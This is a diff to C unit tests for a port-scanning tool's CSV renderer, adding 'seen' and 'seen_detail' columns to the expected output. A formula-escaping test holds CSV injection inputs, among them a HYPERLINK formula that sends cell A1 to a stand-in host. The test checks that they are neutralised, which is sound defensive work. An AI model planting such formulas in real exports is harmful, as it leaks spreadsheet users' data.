@@ -238,19 +238,19 @@ START_TEST(test_csv)
 			ck_assert_str_eq(
 			        line, "address,name,profile,role,proto,port,vantage,state,reason,"
 			              "rtt_us,ttl,probe,service,requirement,verdict,severity,ref,"
-			              "detail");
+			              "detail,seen,seen_detail");
 		if (n == 2)
 			ck_assert_str_eq(
 			        line, "198.18.1.10,ms-primary,cisco-mediasense,primary,tcp,8440,,"
 			              "filtered,no-response,0,0,,api-https,mandatory,blocked,high,"
 			              "\"Table 1, HTTPS TCP 8440\",\"tcp/8440 (API access, "
 			              "mandatory) is filtered from vantage any: a firewall between "
-			              "here and ms-primary drops it (Table 1, HTTPS TCP 8440)\"");
+			              "here and ms-primary drops it (Table 1, HTTPS TCP 8440)\",,");
 		if (n == 6)
 			ck_assert_str_eq(
 			        line, "198.18.1.12,ms-expansion,cisco-mediasense,expansion,tcp,"
 			              "5060,,closed,rst,260,64,,sip-tcp,recommended,missing,medium,"
-			              "\"Table 1, SIP TCP 5060\",\"say \"\"no\"\", twice\"");
+			              "\"Table 1, SIP TCP 5060\",\"say \"\"no\"\", twice\",,");
 		n++;
 	}
 	ck_assert_uint_eq(n, 1 + 7);
@@ -259,7 +259,7 @@ START_TEST(test_csv)
 	r = fx_scan();
 	s = fx_render("csv", r, NULL);
 	ck_assert_ptr_nonnull(
-	        strstr(s, "\n198.18.0.2,,,,udp,53,,open,udp-response,0,0,dns,,,,,,\n"));
+	        strstr(s, "\n198.18.0.2,,,,udp,53,,open,udp-response,0,0,dns,,,,,,,,\n"));
 	ck_assert_uint_eq(fx_count(s, "\n"), 1 + 4);
 	free(s);
 	pp_result_free(r);
@@ -289,10 +289,10 @@ START_TEST(test_csv_formulas)
 	s = fx_render("csv", r, NULL);
 	ck_assert_ptr_nonnull(strstr(s, "\n198.18.0.2,\"'-2+3\",,a=b,udp,53,,open,udp-response,"
 	                                "1234,0,\"'+sip\",\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,"
-	                                "\"\"update\"\")\",,,,\"'\t=1+1\",\"'\r@SUM(A1)\"\n"));
+	                                "\"\"update\"\")\",,,,\"'\t=1+1\",\"'\r@SUM(A1)\",,\n"));
 	/* Numbers and the text of an ordinary row are untouched. */
 	ck_assert_ptr_nonnull(
-	        strstr(s, "\n198.18.0.2,\"'-2+3\",,a=b,tcp,22,,open,syn-ack,222,64,,,,,,,\n"));
+	        strstr(s, "\n198.18.0.2,\"'-2+3\",,a=b,tcp,22,,open,syn-ack,222,64,,,,,,,,,\n"));
 	free(s);
 	pp_result_free(r);
 }
